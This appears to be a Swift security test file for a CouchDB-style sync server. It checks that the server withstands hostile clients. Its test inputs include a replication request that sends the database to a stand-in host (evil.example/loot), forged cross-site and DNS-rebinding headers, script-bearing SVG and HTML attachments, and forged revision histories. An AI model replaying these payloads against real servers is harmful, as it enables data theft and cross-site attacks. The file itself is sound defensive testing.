import Foundation
import HTTPTypes
import HummingbirdTesting
import NIOCore
import Testing
@_spi(Replication) @_spi(Server) import Settee
@testable import SetteeServer

/// settee serve against a hostile client, on live servers on loopback: numbers that would
/// overflow, reads of what a user may not read, writes that would take over a document, the
/// admin port driven by a web page, requests built to cost as much as possible.
@Suite struct HostileClientTests {
    static let ownerSync = """
        `function (doc, oldDoc) {
            if (oldDoc) { requireUser(oldDoc.owner); } else { requireUser(doc.owner); }
            channel(doc.channels);
        }`
        """

    static func config(sync: String? = nil, extra: String = "") -> String {
        """
        {\(extra)"databases": {"db": {"server": "walrus:",
          "users": {"GUEST": {"disabled": true},
                    "alice": {"password": "pw", "admin_channels": ["red"]},
                    "bob": {"password": "pw", "admin_channels": ["red", "blue"]}}\(sync.map { ", \"sync\": " + $0 } ?? "")}}}
        """
    }

    static let alice = basic("alice", "pw")
    static let bob = basic("bob", "pw")

    // MARK: - Bodies past their endpoint's limit

    /// A body larger than its endpoint takes is 413 `too_large`, never read whole and never a
    /// 500: a login, a user, a sign-up, a database configuration, a document, an attachment.
    @Test func oversizedBodiesAre413() async throws {
        var config = try ServerConfiguration(json: Self.config(extra: #""allowSignUp": true, "#))
        config.databases["db"]?.maxAttachmentSize = 4096
        config.databases["db"]?.maxDocumentSize = 4096
        config.interface = "127.0.0.1:0"
        config.adminInterface = "127.0.0.1:0"
        let server = try SetteeServer(configuration: config)
        try await withPorts(server) { pub, admin in
            let big = String(repeating: "a", count: 2 << 20)
            let cases: [(any TestClientProtocol, HTTPRequest.Method, String, String, HTTPFields)] = [
                (pub, .post, "/_session", #"{"name": "alice", "password": "\#(big)"}"#, [:]),
                (admin, .put, "/db/_user/zed", #"{"password": "\#(big)"}"#, [:]),
                (pub, .put, "/_users/org.couchdb.user:zed", #"{"name": "zed", "type": "user", "password": "\#(big)"}"#, [:]),
                (admin, .put, "/newdb", #"{"sync": "\#(big)"}"#, [:]),
                (pub, .put, "/db/doc", #"{"x": "\#(big)"}"#, Self.alice),
                (pub, .put, "/db/doc/att", big, Self.alice + [.contentType: "text/plain"]),
            ]
            for (client, method, uri, body, headers) in cases {
                var fields = headers
                if fields[.contentType] == nil { fields[.contentType] = "application/json" }
                let r = try await client.execute(uri: uri, method: method, headers: fields, body: ByteBuffer(string: body))
                #expect(r.status == .contentTooLarge && r["error"] == "too_large", "\(method) \(uri): \(r.status) \(r.text.prefix(200))")
            }
            #expect(try await admin.send(.get, "/db/_user/zed").status == .notFound)
            #expect(try await admin.send(.get, "/newdb").status == .notFound)
        }
    }

    // MARK: - Numbers from the network are bounded before arithmetic

    /// A generation of 2^64 − 1 is refused where it arrives; one at the limit (2^53 − 1) is
    /// stored, read with its history everywhere, drawn on the admin page, and its next edit is a
    /// 400, not a trap.
    @Test func generationsAreBounded() async throws {
        let server = try channelServer(Self.config())
        try await withPorts(server) { pub, admin in
            let huge = "18446744073709551615-abc"
            var r = try await admin.send(.post, "/db/_bulk_docs", json: #"{"new_edits": false, "docs": [{"_id": "g", "_rev": "\#(huge)", "channels": ["red"]}]}"#)
            #expect(r.status == .badRequest, "\(r.text)")
            r = try await admin.send(.put, "/db/g?new_edits=false", json: #"{"_rev": "\#(huge)"}"#)
            #expect(r.status == .badRequest, "\(r.text)")
            r = try await admin.send(.post, "/db/_bulk_docs", json: #"{"new_edits": false, "docs": [{"_id": "g", "_rev": "3-c", "_revisions": {"start": 18446744073709551615, "ids": ["c"]}}]}"#)
            #expect(r.status == .badRequest, "\(r.text)")
            r = try await admin.send(.get, "/db/g?rev=\(huge)")
            #expect(r.status == .badRequest || r.status == .notFound, "\(r.text)")

            let top = "\(RevisionIDSyntax.maxGeneration)-abc"
            #expect(RevisionIDSyntax.maxGeneration == (1 << 53) - 1)
            r = try await admin.send(.post, "/db/_bulk_docs", json: #"{"new_edits": false, "docs": [{"_id": "g", "_rev": "\#(top)", "channels": ["red"]}, {"_id": "g", "_rev": "1-low", "channels": ["red"]}]}"#)
            #expect(r.status == .created, "\(r.text)")
            r = try await admin.send(.put, "/db/g", json: #"{"_rev": "\#(top)", "x": 1}"#)
            #expect(r.status == .badRequest, "\(r.text)")
            #expect(r["reason"]?.stringValue?.contains("limit") == true, "\(r.text)")
            r = try await admin.send(.delete, "/db/g?rev=\(top)")
            #expect(r.status == .badRequest, "\(r.text)")
            r = try await admin.send(.put, "/db/g/att?rev=\(top)", json: "x", headers: [.contentType: "text/plain"])
            #expect(r.status == .badRequest, "\(r.text)")
            for path in ["/db/g?revs=true", "/db/g?open_revs=all&revs=true", "/db/g?open_revs=%5B%22\(top)%22%5D&revs=true"] {
                r = try await admin.send(.get, path)
                #expect(r.status == .ok, "\(path): \(r.text)")
                #expect(r.text.contains("\"start\":\(RevisionIDSyntax.maxGeneration)"), "\(path): \(r.text)")
            }
            r = try await admin.send(.post, "/db/_bulk_get?revs=true", json: #"{"docs": [{"id": "g"}, {"id": "g", "rev": "1-low"}]}"#)
            #expect(r.status == .ok && r.text.contains("\"start\":\(RevisionIDSyntax.maxGeneration)"), "\(r.text)")
            r = try await pub.send(.get, "/db/g?revs=true", headers: Self.alice)
            #expect(r.status == .ok, "\(r.text)")
            r = try await admin.send(.get, "/_admin/db/db/doc/g")
            #expect(r.status == .ok && r.text.contains("<svg"), "\(r.status)")
            // The server still answers.
            #expect(try await admin.send(.get, "/db").status == .ok)
        }
    }

    /// Limits, heartbeats and timeouts of `Int.max` are read as "as many as there are" and "as
    /// long as allowed": every feed answers.
    @Test func hugeLimitsAndWaitsAnswer() async throws {
        let server = try channelServer(Self.config())
        try await withPorts(server) { pub, admin in
            try await put(admin, "d1", #"{"channels": ["red"]}"#)
            try await put(admin, "d2", #"{"channels": ["red"]}"#)
            let max = "9223372036854775807"
            for (c, who) in [(admin, HTTPFields()), (pub, Self.alice)] {
                for path in ["/db/_changes?limit=\(max)", "/db/_changes?feed=longpoll&limit=\(max)",
                             "/db/_changes?feed=continuous&limit=\(max)&timeout=100",
                             "/db/_all_docs?limit=\(max)&inclusive_end=false&endkey=%22d2%22",
                             "/db/_changes?feed=longpoll&since=now&heartbeat=\(max)&timeout=200",
                             "/db/_changes?feed=longpoll&timeout=\(max)&limit=1"] {
                    let r = try await c.send(.get, path, headers: who)
                    #expect(r.status == .ok, "\(path): \(r.text)")
                }
                let r = try await c.send(.post, "/db/_changes?limit=\(max)", json: "{}", headers: who)
                #expect(r.status == .ok && r.rowIDs.contains("d1"), "\(r.text)")
            }
            let r = try await admin.send(.get, "/db/_all_docs?limit=\(max)&inclusive_end=false&endkey=%22d2%22")
            #expect(r.rowIDs == ["d1"], "\(r.text)")
        }
    }

    /// `changesTimeout` bounds how long any feed waits, whatever `timeout` and `heartbeat` ask,
    /// and `changesDuration` ends a feed kept open by heartbeats: a client cannot hold one of
    /// the server's feeds past what its operator allows. Each feed ends properly, with its
    /// `last_seq`.
    @Test func configuredBoundsEndEveryFeed() async throws {
        let server = try channelServer(Self.config(extra: #""changesTimeout": 300, "changesDuration": 700, "#))
        #expect(server.configuration.changesTimeout == 300 && server.configuration.changesDuration == 700)
        try await withPorts(server) { pub, admin in
            try await put(admin, "d1", #"{"channels": ["red"]}"#)
            let max = "9223372036854775807"
            for (c, who) in [(admin, HTTPFields()), (pub, Self.alice)] {
                let longpoll = try await c.send(.get, "/db/_changes?feed=longpoll&since=now", headers: who)
                #expect(longpoll.status == .ok && (try? longpoll.json.objectValue?["results"]) == [], "\(longpoll.text)")
                for path in ["/db/_changes?feed=continuous&since=now&timeout=\(max)",
                             "/db/_changes?feed=continuous&since=now&heartbeat=1000",
                             "/db/_changes?feed=continuous&since=now&heartbeat=true&timeout=\(max)",
                             "/db/_changes?feed=eventsource&since=now&heartbeat=\(max)"] {
                    let r = try await c.send(.get, path, headers: who)
                    #expect(r.status == .ok, "\(path): \(r.text)")
                    if !path.contains("eventsource") {
                        #expect(r.text.split(separator: "\n").last?.contains(#""last_seq""#) == true, "\(path): \(r.text)")
                    }
                }
            }
        }
    }
}

// MARK: - No leak, no takeover

extension HostileClientTests {
    /// A revision is read with the channels it had: a document moved from blue into red does not
    /// show alice (red) its blue body, attachments or revision ID; bob (blue too) reads them.
    @Test func olderRevisionsAreCheckedAgainstTheirOwnChannels() async throws {
        let server = try channelServer(Self.config())
        try await withPorts(server) { pub, admin in
            let att = #""_attachments": {"pin.txt": {"content_type": "text/plain", "data": "\#(Data("PIN 4711".utf8).base64EncodedString())"}}"#
            let blue = try await put(admin, "doc", #"{"channels": ["blue"], "pin": 4711, \#(att)}"#)
            let red = try await put(admin, "doc", #"{"_rev": "\#(blue)", "channels": ["red"], "note": "moved"}"#)
            let missing = try await pub.send(.get, "/db/nothing-here?rev=\(blue)", headers: Self.alice)
            for path in ["/db/doc?rev=\(blue)", "/db/doc/pin.txt?rev=\(blue)"] {
                let a = try await pub.send(.get, path, headers: Self.alice)
                #expect(a.status == .notFound && !a.text.contains("4711"), "\(path): \(a.text)")
                #expect(try await pub.send(.get, path, headers: Self.bob).status == .ok, "\(path)")
            }
            #expect(try await pub.send(.get, "/db/doc?rev=\(blue)", headers: Self.alice).text == missing.text)
            var r = try await pub.send(.get, "/db/doc?open_revs=\(q("[\"\(blue)\"]"))", headers: adding(Self.alice, .accept, "application/json"))
            #expect(r.text.contains("\"missing\"") && !r.text.contains("4711"), "\(r.text)")
            r = try await pub.send(.post, "/db/_bulk_get", json: #"{"docs": [{"id": "doc", "rev": "\#(blue)"}]}"#, headers: Self.alice)
            #expect(r.text.contains("not_found") && !r.text.contains("4711"), "\(r.text)")
            r = try await pub.send(.get, "/db/doc?open_revs=\(q("[\"\(blue)\"]"))", headers: adding(Self.alice, .accept, "multipart/mixed"))
            #expect(!r.text.contains("4711"), "\(r.text)")
            // The current revision's history stops before the revision alice may not know of.
            r = try await pub.send(.get, "/db/doc?revs=true&revs_info=true", headers: Self.alice)
            #expect(r["_revisions"]?["ids"]?.arrayValue?.count == 1 && !r.text.contains(String(blue.dropFirst(2))), "\(r.text)")
            r = try await pub.send(.get, "/db/doc?revs=true", headers: Self.bob)
            #expect(r["_revisions"]?["ids"]?.arrayValue?.count == 2, "\(r.text)")
            #expect(try await pub.send(.get, "/db/doc", headers: Self.alice)["_rev"] == .string(red))
        }
    }

    /// Nothing about a document or revision alice may not read comes back: not from `_revs_diff`,
    /// `_missing_revs`, `_conflicts`, `open_revs=all`, an all_docs feed, nor from writing on top of
    /// a guessed revision (the answer is the one a wrong guess gets).
    @Test func nothingLeaksOfWhatAUserMayNotRead() async throws {
        let server = try channelServer(Self.config())
        try await withPorts(server) { pub, admin in
            let secret = try await put(admin, "secret", #"{"channels": ["blue"], "pin": 1234}"#)
            let shared = try await put(admin, "shared", #"{"channels": ["red"], "v": 1}"#)
            let v2 = try await put(admin, "shared", #"{"_rev": "\#(shared)", "channels": ["red"], "v": 2}"#)
            try await put(admin, "shared", #"{"_rev": "\#(v2)", "channels": ["red"], "v": 3}"#)
            // A conflicting branch of the shared document (losing: a lower generation), in blue only.
            var r = try await admin.send(.post, "/db/_bulk_docs", json: #"{"new_edits": false, "docs": [{"_id": "shared", "_rev": "2-bluebranch", "_revisions": {"start": 2, "ids": ["bluebranch", "\#(shared.dropFirst(2))"]}, "channels": ["blue"], "pin": 9999}]}"#)
            #expect(r.status == .created)
            for path in ["_revs_diff", "_missing_revs"] {
                r = try await pub.send(.post, "/db/\(path)", json: #"{"secret": ["\#(secret)", "1-guess"], "shared": ["2-bluebranch", "\#(shared)", "4-next"]}"#, headers: Self.alice)
                #expect(r.status == .ok, "\(r.text)")
                let table = path == "_revs_diff" ? try r.json : r["missing_revs"] ?? .null
                let secretMissing = path == "_revs_diff" ? table["secret"]?["missing"] : table["secret"]
                let sharedMissing = path == "_revs_diff" ? table["shared"]?["missing"] : table["shared"]
                #expect(Set(secretMissing?.arrayValue?.compactMap(\.stringValue) ?? []) == [secret, "1-guess"], "\(r.text)")
                #expect(Set(sharedMissing?.arrayValue?.compactMap(\.stringValue) ?? []) == ["2-bluebranch", "4-next"], "\(r.text)")
                #expect(!r.text.contains("possible_ancestors\":[\"2-bluebranch"), "\(r.text)")
            }
            // bob, who reads blue, is told the truth.
            r = try await pub.send(.post, "/db/_revs_diff", json: #"{"secret": ["\#(secret)"], "shared": ["2-bluebranch"]}"#, headers: Self.bob)
            #expect(r.text == "{}\n", "\(r.text)")
            for path in ["/db/shared?conflicts=true&deleted_conflicts=true&meta=true", "/db/_all_docs?conflicts=true&include_docs=true",
                         "/db/_changes?style=all_docs&include_docs=true&conflicts=true"] {
                r = try await pub.send(.get, path, headers: Self.alice)
                #expect(r.status == .ok && !r.text.contains("bluebranch") && !r.text.contains("secret"), "\(path): \(r.text)")
            }
            r = try await pub.send(.get, "/db/shared?open_revs=all", headers: adding(Self.alice, .accept, "application/json"))
            #expect(!r.text.contains("bluebranch") && !r.text.contains("9999"), "\(r.text)")
            r = try await pub.send(.get, "/db/_changes?style=all_docs", headers: Self.bob)
            #expect(r.text.contains("bluebranch"), "\(r.text)")
            // Writing on top of a revision alice may not read answers as a wrong guess does.
            let wrong = try await pub.send(.put, "/db/secret", json: #"{"_rev": "1-wrong", "channels": ["red"]}"#, headers: Self.alice)
            let right = try await pub.send(.put, "/db/secret", json: #"{"_rev": "\#(secret)", "channels": ["red"]}"#, headers: Self.alice)
            #expect(wrong.status == .conflict && right.status == .conflict && wrong.text == right.text, "\(wrong.text) \(right.text)")
            let onBranch = try await pub.send(.put, "/db/shared", json: #"{"_rev": "2-bluebranch", "channels": ["red"]}"#, headers: Self.alice)
            #expect(onBranch.status == .conflict, "\(onBranch.text)")
            let del = try await pub.send(.delete, "/db/secret?rev=\(secret)", headers: Self.alice)
            let delNothing = try await pub.send(.delete, "/db/nothing?rev=1-x", headers: Self.alice)
            #expect(del.status == .notFound && del.text == delNothing.text, "\(del.text)")
            #expect(try await currentRev(admin, "secret") == secret)
            // A document alice may not read is answered as one that does not exist.
            let hidden = try await pub.send(.get, "/db/secret", headers: Self.alice)
            let absent = try await pub.send(.get, "/db/no-such-doc", headers: Self.alice)
            #expect(hidden.status == absent.status && hidden.text == absent.text, "\(hidden.text)")
        }
    }

    /// The ownership pattern of Sync Gateway's documentation holds against a revision with an
    /// invented history: the sync function sees the document's current revision as `oldDoc`
    /// when the revision's history reaches no revision the server keeps a body of.
    @Test func anInventedHistoryCannotTakeOverADocument() async throws {
        let server = try channelServer(Self.config(sync: Self.ownerSync))
        try await withPorts(server) { pub, admin in
            let first = try await put(pub, "a1", #"{"owner": "alice", "channels": ["red"], "v": 1}"#, headers: Self.alice)
            // bob's branch, high and rootless: refused, alice's revision stays current.
            let evil = #"{"_id": "a1", "_rev": "50-evil", "_revisions": {"start": 50, "ids": ["evil", "fake49"]}, "owner": "bob", "channels": ["red"]}"#
            var r = try await pub.send(.post, "/db/_bulk_docs", json: #"{"new_edits": false, "docs": [\#(evil)]}"#, headers: Self.bob)
            #expect(r.status == .created && r.text.contains("forbidden"), "\(r.text)")
            r = try await pub.send(.put, "/db/a1?new_edits=false", json: evil, headers: Self.bob)
            #expect(r.status == .forbidden, "\(r.text)")
            #expect(try await currentRev(admin, "a1") == first)
            // Its real first revision, its body compacted away, named as the branch's root.
            let second = try await put(pub, "a1", #"{"_rev": "\#(first)", "owner": "alice", "channels": ["red"], "v": 2}"#, headers: Self.alice)
            let third = try await put(pub, "a1", #"{"_rev": "\#(second)", "owner": "alice", "channels": ["red"], "v": 3}"#, headers: Self.alice)
            _ = try await server.database(named: "db")!.database.compact()
            let rooted = #"{"_id": "a1", "_rev": "9-evil", "_revisions": {"start": 9, "ids": ["evil", "f8", "f7", "f6", "f5", "f4", "f3", "f2", "\#(first.dropFirst(2))"]}, "owner": "bob", "channels": ["red"]}"#
            r = try await pub.send(.post, "/db/_bulk_docs", json: #"{"new_edits": false, "docs": [\#(rooted)]}"#, headers: Self.bob)
            #expect(r.text.contains("forbidden"), "\(r.text)")
            #expect(try await currentRev(admin, "a1") == third)
            // bob's own document: his rootless branch passes (the current revision is his).
            try await put(pub, "b1", #"{"owner": "bob", "channels": ["red"]}"#, headers: Self.bob)
            let mine = #"{"_id": "b1", "_rev": "40-mine", "_revisions": {"start": 40, "ids": ["mine", "m39"]}, "owner": "bob", "channels": ["red"]}"#
            r = try await pub.send(.post, "/db/_bulk_docs", json: #"{"new_edits": false, "docs": [\#(mine)]}"#, headers: Self.bob)
            #expect(r.text == "[]\n", "\(r.text)")
            #expect(try await currentRev(admin, "b1") == "40-mine")
            // A new document with an invented history is a new document (oldDoc null).
            let fresh = #"{"_id": "c1", "_rev": "7-new", "_revisions": {"start": 7, "ids": ["new", "n6"]}, "owner": "bob", "channels": ["red"]}"#
            r = try await pub.send(.post, "/db/_bulk_docs", json: #"{"new_edits": false, "docs": [\#(fresh)]}"#, headers: Self.bob)
            #expect(r.text == "[]\n", "\(r.text)")
        }
    }
}

// MARK: - Sessions, local documents, the database's counts

extension HostileClientTests {
    static func cookie(_ r: TestResponse) -> String? {
        r.headers[.setCookie]?.split(separator: ";").first.map(String.init)
    }

    /// A session ends when its user's password changes, through the admin API or in the
    /// configuration between two starts; setting the same password again keeps it.
    @Test func sessionsEndWhenThePasswordChanges() async throws {
        let base = FileManager.default.fileExists(atPath: "/dev/shm") ? "/dev/shm/" : NSTemporaryDirectory()
        let directory = base + "settee-sessions-" + UUID().uuidString
        defer { try? FileManager.default.removeItem(atPath: directory) }
        func config(_ password: String) -> String {
            #"{"databases": {"db": {"server": "\#(directory)", "users": {"alice": {"password": "\#(password)", "admin_channels": ["red"]}}}}}"#
        }
        let kept: String = try await {
            let server = try channelServer(config("one"))
            defer { try? server.close() }
            return try await withPorts(server) { pub, admin in
                let bob = try await admin.send(.put, "/db/_user/bob", json: #"{"password": "first", "admin_channels": ["red"]}"#)
                #expect(bob.status == .created)
                let login = try await pub.send(.post, "/db/_session", json: #"{"name": "bob", "password": "first"}"#)
                let cookie = try #require(Self.cookie(login))
                #expect(try await pub.send(.get, "/db/_all_docs", headers: [.cookie: cookie]).status == .ok)
                // The same password again: still logged in.
                #expect(try await admin.send(.put, "/db/_user/bob", json: #"{"password": "first", "admin_channels": ["red"]}"#).status == .ok)
                #expect(try await pub.send(.get, "/db/_all_docs", headers: [.cookie: cookie]).status == .ok)
                // A new one: logged out.
                #expect(try await admin.send(.put, "/db/_user/bob", json: #"{"password": "second", "admin_channels": ["red"]}"#).status == .ok)
                #expect(try await pub.send(.get, "/db/_all_docs", headers: [.cookie: cookie]).status == .unauthorized)
                let alice = try await pub.send(.post, "/db/_session", json: #"{"name": "alice", "password": "one"}"#)
                return try #require(Self.cookie(alice))
            }
        }()
        // Restarted with alice's password unchanged: her session holds. Changed: it ends.
        for (password, status) in [("one", HTTPResponse.Status.ok), ("two", .unauthorized)] {
            let server = try channelServer(config(password))
            defer { try? server.close() }
            try await withPorts(server) { pub, _ async throws in
                #expect(try await pub.send(.get, "/db/_all_docs", headers: [.cookie: kept]).status == status, "password \(password)")
            }
        }
    }

    /// `_local` documents are each user's own on the public port; the admin port's are apart.
    @Test func localDocumentsArePerUser() async throws {
        let server = try channelServer(Self.config())
        try await withPorts(server) { pub, admin in
            var r = try await pub.send(.put, "/db/_local/checkpoint", json: #"{"seq": 7}"#, headers: Self.alice)
            #expect(r.status == .created && r["id"] == "_local/checkpoint", "\(r.text)")
            let aliceRev = try #require(r["rev"]?.stringValue)
            #expect(try await pub.send(.get, "/db/_local/checkpoint", headers: Self.bob).status == .notFound)
            #expect(try await pub.send(.delete, "/db/_local/checkpoint?rev=\(aliceRev)", headers: Self.bob).status == .notFound)
            r = try await pub.send(.put, "/db/_local/checkpoint", json: #"{"seq": 99}"#, headers: Self.bob)
            #expect(r.status == .created, "\(r.text)")
            #expect(try await pub.send(.get, "/db/_local/checkpoint", headers: Self.alice)["seq"] == 7)
            #expect(try await pub.send(.get, "/db/_local/checkpoint", headers: Self.bob)["seq"] == 99)
            #expect(try await admin.send(.get, "/db/_local/checkpoint").status == .notFound)
            // A name with a slash is refused; one that spells an escaped slash stays its own.
            #expect(try await admin.send(.put, "/db/_user/alice%2Fx", json: #"{"password": "pw"}"#).status == .badRequest)
            #expect(try await admin.send(.put, "/db/_user/alice%252Fx", json: #"{"password": "pw"}"#).status == .created)
            r = try await pub.send(.get, "/db/_local/x%2Fcheckpoint", headers: basic("alice%2Fx", "pw"))
            #expect(r.status == .notFound, "\(r.text)")
        }
    }

    /// `GET /{db}` shows a user who reads only some channels no counts or sizes; the admin port
    /// and a user reading `*` see them.
    @Test func theDatabaseInfoShowsOnlyWhatTheUserMayRead() async throws {
        let server = try channelServer(Self.config())
        try await withPorts(server) { pub, admin in
            try await put(admin, "a", #"{"channels": ["blue"]}"#)
            let mine = try await pub.send(.get, "/db", headers: Self.alice)
            #expect(mine.status == .ok && mine["doc_count"] == nil && mine["doc_del_count"] == nil && mine["sizes"] == nil, "\(mine.text)")
            #expect(mine["update_seq"] != nil && mine["instance_start_time"] != nil, "\(mine.text)")
            #expect(try await admin.send(.get, "/db")["doc_count"] == 1)
        }
    }
}

// MARK: - The admin port

extension HostileClientTests {
    /// A web page of another site drives nothing on the admin port: not with its Origin, not
    /// with Sec-Fetch-Site, not under a rebound DNS name, not with JSON sent as a form or text.
    /// What the admin port's own address, localhost or an IP address asks goes through.
    @Test func theAdminPortRefusesCrossSiteRequests() async throws {
        let server = try channelServer(Self.config())
        try await whileRunning(server) { ports in
            let port = try #require(ports.adminPort)
            let here = "127.0.0.1:\(port)"
            let user = #"{"password": "x", "admin_channels": ["*"]}"#
            let json: HTTPFields = [.contentType: "application/json"]
            let attacks: [(String, String?, HTTPFields)] = [
                ("Origin of another site", here, adding(json, .origin, "http://evil.example")),
                ("Origin null", here, adding(json, .origin, "null")),
                ("Origin of another port", here, adding(json, .origin, "http://127.0.0.1:1")),
                ("Sec-Fetch-Site cross-site", here, adding(json, .secFetchSite, "cross-site")),
                ("Sec-Fetch-Site same-site", here, adding(json, .secFetchSite, "same-site")),
                ("rebound DNS name", "evil.example:\(port)", json),
                ("rebound DNS name, same origin", "evil.example:\(port)", adding(json, .origin, "http://evil.example:\(port)")),
                ("text/plain", here, [.contentType: "text/plain"]),
                ("form", here, [.contentType: "application/x-www-form-urlencoded"]),
                ("multipart form", here, [.contentType: "multipart/form-data; boundary=x"]),
            ]
            for (what, authority, headers) in attacks {
                let r = try await rawRequest(port: port, .put, "/db/_user/mallory", authority: authority, headers: headers, body: user)
                #expect(r.status == .forbidden || r.status == .unsupportedMediaType, "\(what): \(r.status)")
                let replicate = try await rawRequest(port: port, .post, "/_replicate", authority: authority, headers: headers,
                                                     body: #"{"source": "db", "target": "http://evil.example/loot"}"#)
                #expect(replicate.status == .forbidden || replicate.status == .unsupportedMediaType, "\(what): \(replicate.status)")
                let plant = try await rawRequest(port: port, .post, "/db", authority: authority, headers: headers, body: #"{"_id": "planted"}"#)
                #expect(plant.status == .forbidden || plant.status == .unsupportedMediaType, "\(what): \(plant.status)")
            }
            // A GET of another site is refused too (it would read nothing, but it would cost).
            let page = try await rawRequest(port: port, .get, "/_admin/", authority: here, headers: [.secFetchSite: "cross-site"])
            #expect(page.status == .forbidden)
            #expect(try await rawRequest(port: port, .get, "/db/_user/mallory", authority: here).status == .notFound)
            #expect(try await rawRequest(port: port, .get, "/db/planted", authority: here).status == .notFound)
            // The admin port's own origin, localhost and IP literals are fine; so is no Host at all.
            for (authority, origin) in [(here, "http://\(here)"), ("localhost:\(port)", "http://localhost:\(port)"),
                                        ("[::1]:\(port)", nil), (nil, nil)] as [(String?, String?)] {
                var headers = adding(json, .secFetchSite, "same-origin")
                if let origin { headers[.origin] = origin }
                let r = try await rawRequest(port: port, .put, "/db/_user/friend", authority: authority, headers: headers, body: user)
                #expect(r.status == .created || r.status == .ok, "\(authority ?? "no Host"): \(r.status)")
            }
            // The public port still reads JSON sent as text/plain (CouchDB's clients do).
            let pub = try await rawRequest(port: ports.publicPort, .put, "/db/doc", authority: "anything.example",
                                           headers: basic("bob", "pw") + [.contentType: "text/plain"], body: #"{"channels": ["red"]}"#)
            #expect(pub.status == .created)
        }
    }

    /// With administrators configured, the admin port needs one's credentials.
    @Test func administratorCredentialsWhenConfigured() async throws {
        let server = try channelServer(Self.config(extra: #""adminUsers": {"root": {"password": "s3cret"}}, "#))
        try await whileRunning(server) { ports in
            let port = try #require(ports.adminPort)
            let none = try await rawRequest(port: port, .get, "/db", authority: "127.0.0.1")
            #expect(none.status == .unauthorized && none.headers[.wwwAuthenticate]?.contains("Basic") == true)
            #expect(try await rawRequest(port: port, .get, "/db", authority: "127.0.0.1", headers: basic("root", "wrong")).status == .unauthorized)
            #expect(try await rawRequest(port: port, .get, "/db", authority: "127.0.0.1", headers: basic("alice", "pw")).status == .unauthorized)
            #expect(try await rawRequest(port: port, .get, "/_admin/", authority: "127.0.0.1").status == .unauthorized)
            #expect(try await rawRequest(port: port, .get, "/db", authority: "127.0.0.1", headers: basic("root", "s3cret")).status == .ok)
            // `_session` names the administrator, as CouchDB names a server admin.
            let session = try await rawRequest(port: port, .get, "/_session", authority: "127.0.0.1", headers: basic("root", "s3cret"))
            let body = try JSONValue(parsing: Array(session.body?.readableBytesView ?? ByteBuffer().readableBytesView))
            let context = body.objectValue?["userCtx"]?.objectValue
            #expect(context?["name"] == "root" && context?["roles"] == ["_admin"], "\(body)")

            // A session, as CouchDB's server admins log in (JSON or a form): its cookie stands for
            // the credentials on this port, and only there, until the administrator logs out.
            func json(_ r: TestClient.Response) -> JSONValue { (try? JSONValue(parsing: Array(r.body?.readableBytesView ?? ByteBuffer().readableBytesView))) ?? .null }
            let anonymous = try await rawRequest(port: port, .get, "/_session", authority: "127.0.0.1")
            #expect(anonymous.status == .ok && json(anonymous)["userCtx"]?["name"] == .null, "\(json(anonymous))")
            for wrong in [#"{"name": "root", "password": "wrong"}"#, #"{"name": "alice", "password": "pw"}"#, #"{"name": "root"}"#] {
                let r = try await rawRequest(port: port, .post, "/_session", authority: "127.0.0.1", headers: [.contentType: "application/json"], body: wrong)
                #expect(r.status == .unauthorized && r.headers[.setCookie] == nil, "\(wrong)")
            }
            let crossSite = try await rawRequest(port: port, .post, "/_session", authority: "127.0.0.1",
                                                 headers: [.contentType: "application/x-www-form-urlencoded", .origin: "http://evil.example"],
                                                 body: "name=root&password=s3cret")
            #expect(crossSite.status == .forbidden && crossSite.headers[.setCookie] == nil)
            for (type, login) in [("application/json", #"{"name": "root", "password": "s3cret"}"#),
                                  ("application/x-www-form-urlencoded", "name=root&password=s3cret")] {
                let r = try await rawRequest(port: port, .post, "/_session", authority: "127.0.0.1", headers: [.contentType: type], body: login)
                #expect(r.status == .ok && json(r)["roles"] == ["_admin"], "\(type): \(json(r))")
                let setCookie = try #require(r.headers[.setCookie], "\(type)")
                #expect(setCookie.contains("HttpOnly") && setCookie.contains("SameSite=Strict"))
                let cookie: HTTPFields = [.cookie: String(setCookie.prefix { $0 != ";" })]
                #expect(try await rawRequest(port: port, .get, "/db", authority: "127.0.0.1", headers: cookie).status == .ok)
                let me = try await rawRequest(port: port, .get, "/_session", authority: "127.0.0.1", headers: cookie)
                #expect(json(me)["userCtx"]?["name"] == "root" && json(me)["info"]?["authenticated"] == "cookie", "\(json(me))")
                // Not a key to the public port.
                #expect(try await rawRequest(port: ports.publicPort, .get, "/_all_dbs", authority: "127.0.0.1", headers: cookie).status != .ok)
                #expect(try await rawRequest(port: port, .delete, "/_session", authority: "127.0.0.1", headers: cookie).status == .ok)
                #expect(try await rawRequest(port: port, .get, "/db", authority: "127.0.0.1", headers: cookie).status == .unauthorized)
            }
            let forged: HTTPFields = [.cookie: "AuthSession=" + String(repeating: "0", count: 40)]
            #expect(try await rawRequest(port: port, .get, "/db", authority: "127.0.0.1", headers: forged).status == .unauthorized)
            #expect(try await rawRequest(port: port, .get, "/_session/x", authority: "127.0.0.1").status == .unauthorized)
        }
        #expect(throws: ConfigurationError.self) { try ServerConfiguration(json: #"{"adminUsers": {"root": {}}}"#) }
    }

    /// No attachment is active content on either origin.
    @Test func attachmentsAreNeverActiveContent() async throws {
        let server = try channelServer(Self.config())
        try await withPorts(server) { pub, admin in
            let svg = #"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>"#
            let html = "<html><script>fetch('/_admin/')</script></html>"
            let b64 = { (s: String) in Data(s.utf8).base64EncodedString() }
            try await put(admin, "doc", #"{"channels": ["red"], "_attachments": {"x.svg": {"content_type": "image/svg+xml", "data": "\#(b64(svg))"}, "p.html": {"content_type": "text/html; charset=utf-8", "data": "\#(b64(html))"}, "a \"q\".xml": {"content_type": "application/xml", "data": "\#(b64("<a/>"))"}, "i.png": {"content_type": "image/png", "data": "\#(b64("png"))"}}}"#)
            for (c, who) in [(admin, HTTPFields()), (pub, Self.alice)] {
                for name in ["x.svg", "p.html", "a%20%22q%22.xml"] {
                    let r = try await c.send(.get, "/db/doc/\(name)", headers: who)
                    #expect(r.status == .ok, "\(name)")
                    #expect(r.headers[.contentSecurityPolicy]?.hasPrefix("sandbox") == true, "\(name)")
                    #expect(r.headers[.xContentTypeOptions] == "nosniff", "\(name)")
                    #expect(r.headers[.contentDisposition]?.hasPrefix("attachment") == true, "\(name): \(r.headers)")
                    #expect(r.headers[.contentDisposition]?.dropFirst("attachment; filename=\"".count).dropLast().contains("\"") == false, "\(name)")
                }
                let png = try await c.send(.get, "/db/doc/i.png", headers: who)
                #expect(png.headers[.contentSecurityPolicy]?.hasPrefix("sandbox") == true && png.headers[.xContentTypeOptions] == "nosniff")
                #expect(png.headers[.contentDisposition] == nil)
            }
        }
    }

    /// `DELETE /{db}?rev=…` is a mistaken document deletion: 400, and the database stays.
